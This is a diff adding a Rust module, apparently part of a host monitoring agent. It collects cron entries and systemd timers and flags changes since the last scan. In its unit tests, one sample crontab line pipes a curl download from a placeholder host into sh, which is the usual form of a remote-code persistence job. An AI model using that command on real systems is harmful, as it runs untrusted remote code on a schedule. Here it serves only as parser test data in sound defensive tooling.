@@ -0,0 +1,315 @@
+use crate::{
+    proto::{HostReq, ScheduledTask},
+    service,
+};
+use prost::Message;
+use std::{
+    collections::HashSet,
+    fs,
+    path::{Path, PathBuf},
+    time::UNIX_EPOCH,
+};
+
+const CRONTAB: &str = "/etc/crontab";
+const CRON_D: &str = "/etc/cron.d";
+// debian 与 rhel 的用户 crontab 目录
+const USER_CRON_DIRS: [&str; 2] = ["/var/spool/cron/crontabs", "/var/spool/cron"];
+const CRON_PERIODS: [&str; 4] = ["hourly", "daily", "weekly", "monthly"];
+// 上次采集结果，用于标记变化，agent 重启后仍然有效
+const BASELINE: &str = "./config/.scheduled_tasks";
+// 每次 systemctl show 查询的 timer 数量
+const SHOW_CHUNK: usize = 100;
+
+/// 采集 crontab、/etc/cron.* 脚本和 systemd timer，并标记与上次采集相比的变化
+pub fn scheduled_task() -> anyhow::Result<Vec<ScheduledTask>> {
+    let mut r = Vec::new();
+    if let Ok(content) = fs::read_to_string(CRONTAB) {
+        r.extend(parse_crontab(&content, CRONTAB, None));
+    }
+    for path in files(Path::new(CRON_D)) {
+        if let Ok(content) = fs::read_to_string(&path) {
+            r.extend(parse_crontab(&content, &path.to_string_lossy(), None));
+        }
+    }
+    for dir in USER_CRON_DIRS {
+        for path in files(Path::new(dir)) {
+            let Some(user) = path.file_name().map(|v| v.to_string_lossy().to_string()) else {
+                continue;
+            };
+            if let Ok(content) = fs::read_to_string(&path) {
+                r.extend(parse_crontab(
+                    &content,
+                    &path.to_string_lossy(),
+                    Some(&user),
+                ));
+            }
+        }
+    }
+    for period in CRON_PERIODS {
+        for path in files(Path::new(&format!("/etc/cron.{period}"))) {
+            let path = path.to_string_lossy().to_string();
+            r.push(ScheduledTask {
+                source: "cron_script".to_string(),
+                path: path.clone(),
+                user: Some("root".to_string()),
+                schedule: period.to_string(),
+                modified_at: fs::metadata(&path)
+                    .and_then(|v| v.modified())
+                    .ok()
+                    .and_then(|v| v.duration_since(UNIX_EPOCH).ok())
+                    .map(|v| v.as_secs() as i64),
+                command: path,
+                ..Default::default()
+            });
+        }
+    }
+    match timers() {
+        Ok(v) => r.extend(v),
+        Err(e) => log::error!("systemd timers err: {}", e),
+    }
+
+    let previous = fs::read(BASELINE)
+        .ok()
+        .and_then(|v| HostReq::decode(&v[..]).ok())
+        .map(|v| v.scheduled_tasks);
+    flag_changed(previous.as_deref(), &mut r);
+    let baseline = HostReq {
+        scheduled_tasks: r.clone(),
+        ..Default::default()
+    };
+    if let Err(e) = fs::write(BASELINE, baseline.encode_to_vec()) {
+        log::error!("write {BASELINE} err: {}", e);
+    }
+    Ok(r)
+}
+
+/// 目录下的普通文件，忽略隐藏文件和编辑器备份
+fn files(dir: &Path) -> Vec<PathBuf> {
+    let Ok(entries) = fs::read_dir(dir) else {
+        return Vec::new();
+    };
+    let mut r: Vec<PathBuf> = entries
+        .flatten()
+        .filter(|v| v.file_type().is_ok_and(|v| v.is_file()))
+        .map(|v| v.path())
+        .filter(|v| {
+            let name = v.file_name().unwrap_or_default().to_string_lossy();
+            !name.starts_with('.') && !name.ends_with('~')
+        })
+        .collect();
+    r.sort();
+    r
+}
+
+/// 解析 crontab，user 为空时按系统 crontab 格式解析，命令前带有用户名字段
+fn parse_crontab(content: &str, path: &str, user: Option<&str>) -> Vec<ScheduledTask> {
+    let mut r = Vec::new();
+    for line in content.lines() {
+        let line = line.trim();
+        if line.is_empty() || line.starts_with('#') || is_env(line) {
+            continue;
+        }
+        let schedule_fields = if line.starts_with('@') { 1 } else { 5 };
+        let user_fields = if user.is_some() { 0 } else { 1 };
+        let Some((fields, command)) = split_fields(line, schedule_fields + user_fields) else {
+            continue;
+        };
+        r.push(ScheduledTask {
+            source: if user.is_some() { "user_cron" } else { "cron" }.to_string(),
+            path: path.to_string(),
+            user: user
+                .map(|v| v.to_string())
+                .or_else(|| fields.last().map(|v| v.to_string())),
+            schedule: fields[..schedule_fields].join(" "),
+            command: command.to_string(),
+            ..Default::default()
+        });
+    }
+    r
+}
+
+/// 形如 NAME=value 或 NAME = value 的环境变量行
+fn is_env(line: &str) -> bool {
+    let rest = line.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_');
+    rest.len() < line.len() && rest.trim_start().starts_with('=')
+}
+
+/// 按空白切出前 n 个字段，返回字段和剩余部分
+fn split_fields(line: &str, n: usize) -> Option<(Vec<&str>, &str)> {
+    let mut fields = Vec::with_capacity(n);
+    let mut rest = line;
+    for _ in 0..n {
+        let trimmed = rest.trim_start();
+        let end = trimmed.find(char::is_whitespace)?;
+        fields.push(&trimmed[..end]);
+        rest = &trimmed[end..];
+    }
+    let rest = rest.trim();
+    if rest.is_empty() {
+        return None;
+    }
+    Some((fields, rest))
+}
+
+fn timers() -> anyhow::Result<Vec<ScheduledTask>> {
+    let units = service::systemctl(&[
+        "list-units",
+        "--type=timer",
+        "--all",
+        "--no-legend",
+        "--no-pager",
+        "--plain",
+    ])?;
+    let names: Vec<&str> = units
+        .lines()
+        .filter_map(|v| v.split_whitespace().next())
+        .collect();
+    let mut r = Vec::new();
+    for chunk in names.chunks(SHOW_CHUNK) {
+        let mut args = vec![
+            "show",
+            "--timestamp=unix",
+            "--property=Id,Unit,TimersCalendar,TimersMonotonic,LastTriggerUSec,NextElapseUSecRealtime",
+            "--",
+        ];
+        args.extend(chunk);
+        // systemd 248 之前不支持 --timestamp，此时不解析执行时间
+        let output = match service::systemctl(&args) {
+            Ok(v) => v,
+            Err(_) => {
+                args.remove(1);
+                service::systemctl(&args)?
+            }
+        };
+        r.extend(parse_timers(&output));
+    }
+    Ok(r)
+}
+
+/// 解析 systemctl show 的 timer 属性，各单元之间以空行分隔
+fn parse_timers(content: &str) -> Vec<ScheduledTask> {
+    let mut r = Vec::new();
+    for block in content.split("\n\n") {
+        let mut task = ScheduledTask {
+            source: "systemd_timer".to_string(),
+            ..Default::default()
+        };
+        let mut rules = Vec::new();
+        for line in block.lines() {
+            let Some((key, value)) = line.split_once('=') else {
+                continue;
+            };
+            match key {
+                "Id" => task.path = value.to_string(),
+                "Unit" => task.unit = Some(value.to_string()).filter(|v| !v.is_empty()),
+                "TimersCalendar" | "TimersMonotonic" => {
+                    // { OnCalendar=*-*-* 00:00:00 ; next_elapse=... }
+                    let rule = value.trim_start_matches('{').trim_start();
+                    if let Some((rule, _)) = rule.split_once(" ;") {
+                        rules.push(rule.to_string());
+                    }
+                }
+                "LastTriggerUSec" => task.last_run = parse_timestamp(value),
+                "NextElapseUSecRealtime" => task.next_run = parse_timestamp(value),
+                _ => {}
+            }
+        }
+        if task.path.is_empty() {
+            continue;
+        }
+        task.schedule = rules.join(", ");
+        r.push(task);
+    }
+    r
+}
+
+/// --timestamp=unix 输出形如 @1760832000
+fn parse_timestamp(value: &str) -> Option<i64> {
+    value.strip_prefix('@')?.parse().ok().filter(|v| *v > 0)
+}
+
+/// 与上次采集比较，新出现或内容变化的条目标记为 changed，没有上次采集时不标记
+fn flag_changed(previous: Option<&[ScheduledTask]>, current: &mut [ScheduledTask]) {
+    let Some(previous) = previous else {
+        return;
+    };
+    let key = |v: &ScheduledTask| {
+        (
+            v.source.clone(),
+            v.path.clone(),
+            v.user.clone(),
+            v.schedule.clone(),
+            v.command.clone(),
+            v.unit.clone(),
+            v.modified_at,
+        )
+    };
+    let previous: HashSet<_> = previous.iter().map(key).collect();
+    for task in current {
+        task.changed = !previous.contains(&key(task));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn parse_crontab_test() {
+        let system = parse_crontab(
+            "SHELL=/bin/sh\nMAILTO = root\n# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n@reboot root /opt/agent.sh\n",
+            CRONTAB,
+            None,
+        );
+        assert_eq!(system.len(), 2);
+        assert_eq!(system[0].schedule, "17 * * * *");
+        assert_eq!(system[0].user.as_deref(), Some("root"));
+        assert_eq!(
+            system[0].command,
+            "cd / && run-parts --report /etc/cron.hourly"
+        );
+        assert_eq!(system[1].schedule, "@reboot");
+        assert_eq!(system[1].command, "/opt/agent.sh");
+
+        let user = parse_crontab(
+            "*/5 * * * * curl -s http://x | sh\n",
+            "/var/spool/cron/crontabs/alice",
+            Some("alice"),
+        );
+        assert_eq!(user.len(), 1);
+        assert_eq!(user[0].source, "user_cron");
+        assert_eq!(user[0].user.as_deref(), Some("alice"));
+        assert_eq!(user[0].command, "curl -s http://x | sh");
+    }
+
+    #[test]
+    fn parse_timers_test() {
+        let timers = parse_timers(
+            "Id=logrotate.timer\nUnit=logrotate.service\nTimersCalendar={ OnCalendar=*-*-* 00:00:00 ; next_elapse=@1760918400 }\nTimersMonotonic=\nLastTriggerUSec=@1760832000\nNextElapseUSecRealtime=@1760918400\n\nId=fstrim.timer\nUnit=fstrim.service\nTimersMonotonic={ OnBootSec=15min ; next_elapse=0 }\nLastTriggerUSec=n/a\n",
+        );
+        assert_eq!(timers.len(), 2);
+        assert_eq!(timers[0].schedule, "OnCalendar=*-*-* 00:00:00");
+        assert_eq!(timers[0].unit.as_deref(), Some("logrotate.service"));
+        assert_eq!(timers[0].last_run, Some(1760832000));
+        assert_eq!(timers[0].next_run, Some(1760918400));
+        assert_eq!(timers[1].schedule, "OnBootSec=15min");
+        assert_eq!(timers[1].last_run, None);
+    }
+
+    #[test]
+    fn flag_changed_test() {
+        let task = |command: &str| ScheduledTask {
+            source: "cron".to_string(),
+            path: CRONTAB.to_string(),
+            schedule: "@daily".to_string(),
+            command: command.to_string(),
+            ..Default::default()
+        };
+        let mut current = vec![task("a"), task("b")];
+        flag_changed(None, &mut current);
+        assert!(current.iter().all(|v| !v.changed));
+        flag_changed(Some(&[task("a")]), &mut current);
+        assert!(!current[0].changed);
+        assert!(current[1].changed);
+    }
+}